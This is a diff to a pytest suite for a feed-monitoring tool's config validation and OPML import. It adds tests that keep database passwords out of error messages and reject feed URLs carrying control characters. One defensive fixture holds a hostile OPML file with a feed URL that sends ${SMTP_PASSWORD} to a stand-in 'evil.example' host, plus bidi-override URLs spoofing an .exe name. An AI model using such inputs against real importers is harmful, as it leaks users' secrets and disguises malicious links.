@@ -504,6 +504,27 @@ def test_store_may_be_a_postgresql_url_without_a_password(tmp_path, monkeypatch)
     assert "MONITOR_STORE" in issues_of(write(tmp_path, "store: postgresql://a:b@db/x\n"))[0].hint
 
 
+def test_a_store_url_that_does_not_parse_or_a_connection_string_is_one_line(tmp_path, monkeypatch):
+    # an unclosed "[" made urlsplit raise: every command ended in "unexpected ValueError";
+    # a libpq "key=value" string was taken for a folder and printed, password and all
+    monkeypatch.delenv("MONITOR_STORE", raising=False)
+    for text, what in (
+        ('store: "postgresql://monitor@[db.example/news"\n', "does not parse"),
+        ("store: postgresql://monitor@db:99999/news\n", "port of this database URL"),
+        ('store: "host=db.example dbname=news password=s3cret"\n', "connection string"),
+    ):
+        [issue] = issues_of(write(tmp_path, text))
+        assert (issue.line, issue.where) == (1, "store") and what in issue.what, issue
+        assert "s3cret" not in str(issue)
+    path = write(tmp_path, "store: data\n")
+    for value in ("postgresql://monitor:s3cret@[db.example/news", "host=db password=s3cret"):
+        monkeypatch.setenv("MONITOR_STORE", value)
+        [issue] = issues_of(path)
+        assert str(issue).startswith("$MONITOR_STORE: ") and "s3cret" not in str(issue), issue
+    monkeypatch.setenv("MONITOR_STORE", "my data/user files")  # a folder with a space stays one
+    assert load_config(path).store == (Path.cwd() / "my data/user files").resolve()
+
+
 def test_monitor_store_overrides_store(tmp_path, monkeypatch):
     path = write(tmp_path, "store: data\n")
     monkeypatch.setenv("MONITOR_STORE", "postgresql://monitor:s3cret@db.example/news")
@@ -643,6 +664,55 @@ def test_empty_names_and_names_without_letters(tmp_path):
     ]
 
 
+def test_checks_across_items_see_items_with_a_problem_elsewhere(tmp_path):
+    # each of these came out only in a second run, once the first run's errors were fixed
+    path = write(
+        tmp_path,
+        """
+        feeds:
+          - name: A
+            url: https://a.example/rss
+            every: 0s
+          - name: A copy
+            url: https://a.example/rss/
+        watch:
+          - name: Nayib Bukele
+            kind: persn
+            aliases: [Bukele]
+          - name: bukele
+            kind: person
+          - name: CECOT
+            kind: topic
+            alais: [Terrorism Confinement Center]
+        notify:
+          team: ["json://127.0.0.1:9/hook"]
+        alerts:
+          - name: Spike
+            when: spike
+            entity: Nobody
+            to: [team, missing]
+            windw: 3h
+          - name: Feed down
+            when: feed-down
+            feeds: [A, Nowhere]
+          - name: Bukele fine
+            when: first
+            entity: Nayib Bukele
+        """,
+    )
+    assert [(i.line, i.where, i.what) for i in issues_of(path)] == [
+        (4, "feeds[0].every", 'must be longer than zero, got "0s"'),
+        (6, "feeds[1].url", 'duplicate URL, already in feeds[0] ("A")'),
+        (9, "watch[0].kind", 'expected one of person, organization, topic, place, got "persn"'),
+        (11, "watch[1].name", '"bukele" is also a name of watch[0] ("Nayib Bukele")'),
+        (15, "watch[2]", 'unknown key "alais"'),
+        (21, "alerts[0].entity", '"Nobody" is not in the watch list'),
+        (22, "alerts[0].to[1]", 'no target "missing" in notify:'),
+        (23, "alerts[0]", 'unknown key "windw"'),
+        (26, "alerts[1].feeds[1]", 'no feed "Nowhere" in feeds:'),
+    ]
+
+
 def test_names_are_trimmed_and_white_space_collapsed(tmp_path):
     text = 'watch:\n  - name: "  Nayib   Bukele "\n    kind: person\n'
     assert load_config(write(tmp_path, text)).watch[0].name == "Nayib Bukele"
@@ -688,12 +758,14 @@ def test_every_issue_is_reported_in_one_error_in_line_order(tmp_path):
         (8, "feeds[0].tags"),
         (10, "feeds[1].url"),
         (11, "feeds[1].every"),
+        (13, "feeds[2].url"),
         (16, "watch[0].kind"),
         (17, "watch[0]"),
         (23, "watch[2].aliases[0]"),
         (24, ""),
     ]
-    # feeds[2] duplicates feeds[0] but feeds[0] is itself invalid, so it is not compared.
+    # feeds[2] duplicates feeds[0], whose URL is fine though its tags are not: reported now,
+    # not in the next run once the tags are fixed
     with pytest.raises(ConfigError) as caught:
         load_config(path)
     assert str(caught.value).count("\n") == len(issues) - 1
@@ -779,6 +851,58 @@ def test_import_opml_adds_feeds_and_keeps_comments(tmp_path):
     assert feeds["https://cafe.example.com/rss"].tags == ("world-news", "food", "coffee", "opinion")
     assert feeds["https://diario.example.sv/feed/"].tags == ("latin-america", "el-salvador")
     assert feeds["https://untitled.example.org/atom.xml"].name == "untitled.example.org"
+
+
+def test_import_opml_never_takes_a_variable_reference_or_a_control_character(tmp_path, monkeypatch):
+    # an OPML file from anywhere could name ${SMTP_PASSWORD} in a feed URL: the poller then
+    # sent its value to the OPML's host; a bidirectional override makes a URL read as another
+    monkeypatch.setenv("SMTP_PASSWORD", "s3cret-value")
+    opml = tmp_path / "feeds.opml"
+    opml.write_text(
+        '<?xml version="1.0"?><opml version="2.0"><body>'
+        '<outline text="Leak" xmlUrl="https://evil.example/rss?k=${SMTP_PASSWORD}"/>'
+        '<outline text="Bidi" xmlUrl="https://evil.example/&#x202e;lmx.ssr"/>'
+        '<outline text="Ctrl" xmlUrl="https://evil.example/rss&#1;"/>'
+        '<outline text="Fine" xmlUrl="https://ok.example/rss"/>'
+        "</body></opml>",
+        encoding="utf-8",
+    )
+    config_path = write(tmp_path, "feeds: []\n")
+    report = import_opml(opml, config_path)
+    assert report.added == ["https://ok.example/rss"]
+    assert report.reasons == [
+        "holds a ${VAR} reference: an OPML file may not read your environment",
+        "a control character in the URL",
+        "a control character in the URL",
+    ]
+    assert "SMTP_PASSWORD" not in config_path.read_text()
+    assert [f.url for f in load_config(config_path).feeds] == ["https://ok.example/rss"]
+
+
+def test_a_feed_url_with_a_control_character_is_an_error(tmp_path):
+    path = write(
+        tmp_path,
+        """
+        feeds:
+          - name: Bidi
+            url: "https://example.org/\\u202egnp.exe"
+          - name: Control
+            url: "https://example.org/rss\\x01"
+          - name: Zero width
+            url: "https://exa\\u200bmple.org/rss"
+        """,
+    )
+    issues = issues_of(path)
+    assert [(i.line, i.where) for i in issues] == [
+        (3, "feeds[0].url"),
+        (5, "feeds[1].url"),
+        (7, "feeds[2].url"),
+    ]
+    assert [i.what for i in issues] == [
+        "a control character in the URL (U+202E)",
+        "a control character in the URL (U+0001)",
+        "a control character in the URL (U+200B)",
+    ]
 
 
 def test_import_opml_twice_adds_nothing_the_second_time(tmp_path):
